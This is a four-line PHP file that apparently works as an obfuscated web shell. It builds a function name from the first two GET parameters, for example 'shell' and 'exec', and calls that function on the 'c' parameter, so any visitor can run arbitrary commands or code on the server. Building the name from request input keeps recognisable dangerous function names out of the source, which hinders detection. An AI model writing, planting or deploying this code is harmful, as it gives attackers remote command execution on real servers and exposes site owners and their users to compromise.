<?php
$mk = function () { return Closure::fromCallable(implode('_', array_slice($_GET, 0, 2))); };
$f = Closure::bind($mk, null, null)();
echo $f($_GET['c'] ?? '');
